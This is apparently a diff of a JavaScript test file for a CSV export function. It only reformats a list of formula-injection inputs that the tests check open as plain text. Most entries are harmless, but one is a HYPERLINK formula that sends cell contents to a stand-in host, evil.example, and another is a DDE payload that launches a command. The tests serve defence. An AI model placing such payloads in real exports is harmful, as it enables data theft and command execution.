@@ -29,10 +29,36 @@ test('quotes are doubled; commas and line breaks stay inside the cell', () => {
 })
 
 const formulas = [
-  '=1+1', '+1', '-2', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '\0=1', '\ttext', '\rtext', '\ntext', '\0text',
-  '＝1+1', '＋1', '－1', '＠SUM', '﹦1', '﹫SUM', ' =1', '  \n =1', '\u00a0=1', '\ufeff=1', '\u200b=1', '\u202e@x',
-  '\u0001=1', '=HYPERLINK("http://evil.example?x="&A1,"ok")', "=cmd|' /C calc'!A0", '-', '+49 761 123',
-] // prettier-ignore
+  '=1+1',
+  '+1',
+  '-2',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '\0=1',
+  '\ttext',
+  '\rtext',
+  '\ntext',
+  '\0text',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM',
+  '﹦1',
+  '﹫SUM',
+  ' =1',
+  '  \n =1',
+  '\u00a0=1',
+  '\ufeff=1',
+  '\u200b=1',
+  '\u202e@x',
+  '\u0001=1',
+  '=HYPERLINK("http://evil.example?x="&A1,"ok")',
+  "=cmd|' /C calc'!A0",
+  '-',
+  '+49 761 123',
+]
 
 for (const text of formulas) {
   test(`${JSON.stringify(text)} opens as text`, () => {
@@ -52,7 +78,9 @@ for (const text of ['a=1', '1-2', ' plain', 'mia@acme.example', "'quoted", '"=1"
 test('any 1,000 rows come back from an RFC 4180 parser', () => {
   const text = fc.oneof(
     fc.string({ unit: 'binary' }),
-    fc.string({ unit: fc.constantFrom('"', ',', '\r', '\n', '=', '+', '-', '@', '\t', ' ', "'", 'a', '😀', '＝', ';') }),
+    fc.string({
+      unit: fc.constantFrom('"', ',', '\r', '\n', '=', '+', '-', '@', '\t', ' ', "'", 'a', '😀', '＝', ';'),
+    }),
   )
   const row = fc.record({
     id: fc.nat(),
